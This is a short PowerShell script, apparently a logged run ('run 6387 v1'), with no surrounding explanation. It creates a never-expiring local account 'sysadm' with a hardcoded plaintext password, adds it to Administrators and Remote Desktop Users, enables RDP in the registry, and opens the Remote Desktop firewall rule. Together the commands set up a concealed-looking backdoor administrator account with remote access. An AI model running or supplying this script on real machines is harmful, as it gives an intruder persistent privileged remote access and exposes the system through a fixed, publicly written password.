# run 6387 v1
$pw = ConvertTo-SecureString 'Adm1n!strat0r' -AsPlainText -Force
New-LocalUser -Name 'sysadm' -Password $pw -PasswordNeverExpires -AccountNeverExpires
Add-LocalGroupMember -Group 'Administrators' -Member 'sysadm'
Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'sysadm'
Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
